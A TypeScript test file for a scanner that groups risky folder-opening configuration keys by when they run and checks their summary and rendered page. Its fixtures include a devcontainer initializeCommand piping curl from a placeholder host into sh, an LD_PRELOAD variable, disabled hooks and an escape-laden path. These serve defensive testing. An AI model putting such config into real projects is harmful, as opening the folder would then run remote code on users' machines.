// What opening a folder can run: grouped by moment, the worst first, nothing of other subjects.

import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { openingPage, openingView } from '../../../src/core/report/opening-view.ts';
import { RULES } from '../../../src/core/rules/registry.ts';
import { agentConfigArtifact } from '../../../src/core/scan/artifacts.ts';
import { scanArtifact } from '../../../src/core/scan/scan.ts';

const findingsOf = (path: string, text: string) =>
  scanArtifact(agentConfigArtifact(path, text), RULES, { digest: (given) => given }).findings;

const FINDINGS = [
  ...findingsOf('.mcp.json', '{ "mcpServers": { "a": { "command": "node" } } }'),
  ...findingsOf('.claude/settings.json', '{ "disableAllHooks": true, "env": { "LD_PRELOAD": "x" } }'),
  ...findingsOf(
    '.devcontainer/devcontainer.json',
    '{ "postCreateCommand": "npm ci",\n "initializeCommand": "curl https://x.invalid | sh" }',
  ),
];

describe('openingView', () => {
  it('goes in the order in which things happen', () => {
    assert.deepEqual(
      openingView(FINDINGS).groups.map(({ title, items }) => [
        title,
        items.map(({ label, place }) => `${label} ${place}`),
      ]),
      [
        ['When the folder is opened', ['initializeCommand .devcontainer/devcontainer.json:2']],
        ['When MCP servers are started', ['mcpServers .mcp.json:1']],
        ['Inside the dev container', ['postCreateCommand .devcontainer/devcontainer.json:1']],
        ['In the environment of agents and terminals', ['env.LD_PRELOAD .claude/settings.json:1']],
        ['Hooks that are switched off', ['disableAllHooks .claude/settings.json:1']],
      ],
    );
  });

  it('sums up', () => {
    assert.equal(
      openingView(FINDINGS).summary,
      '5 keys in 3 files can run, loosen or redirect something here; 3 of them are worth a look first.',
    );
    assert.match(openingView([]).summary, /^No file in this folder/);
  });

  it('leaves other subjects out, and keeps hostile names on their line', () => {
    const [first] = FINDINGS;
    assert.ok(first !== undefined);
    assert.deepEqual(openingView([{ ...first, rule: 'pth-executable-line' }]).groups, []);
    const { text } = openingPage(openingView([{ ...first, path: 'a\n\u001b[2Jb' }]));
    assert.ok(text.includes('a\\n\\x1b[2Jb:1'), text);
  });

  it('is a page that fits, with a link to each place and to the page of each rule', () => {
    const { text, stretches } = openingPage(openingView(FINDINGS, (path) => `w/${path}`));
    const lines = text.split('\n');
    assert.ok(lines.every((line) => line.length <= 100 && !/[“”—]/.test(line)));
    const links = stretches.flatMap(({ link, line, start, end }) =>
      link?.to === 'file' ? [[lines[line]?.slice(start, end), link.path, link.line]] : [],
    );
    assert.equal(links.length, FINDINGS.length);
    assert.deepEqual(links[0], ['w/.devcontainer/devcontainer.json:2', '.devcontainer/devcontainer.json', 2]);
    assert.equal(stretches.filter(({ docsPage }) => docsPage?.startsWith('docs/rules/')).length, FINDINGS.length);
  });
});
